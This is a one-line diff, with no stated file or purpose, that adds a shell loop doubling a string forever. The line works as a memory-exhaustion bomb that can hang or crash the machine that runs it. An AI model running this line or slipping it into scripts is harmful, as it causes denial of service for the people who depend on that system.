@@ -1,0 +1,1 @@
+x=1;while :;do x=$x$x;done
